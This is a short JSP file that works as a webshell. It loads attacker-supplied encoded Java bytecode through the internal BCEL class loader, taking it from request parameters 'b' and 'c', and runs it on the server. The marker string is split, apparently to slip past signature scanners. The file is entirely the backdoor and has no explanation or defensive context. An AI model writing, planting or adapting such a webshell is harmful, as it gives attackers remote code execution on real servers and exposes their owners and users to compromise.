<%@ page inert %>
<%
ClassLoader cl = (ClassLoader) Class.forName("com.sun.org.apache.bcel.internal.util.ClassLoader").newInstance();
String n = request.getParameter("b");
Class<?> c = cl.loadClass("$$BC" + "EL$$" + n);
out.print(c.getConstructor(String.class).newInstance(request.getParameter("c")).toString());
%>
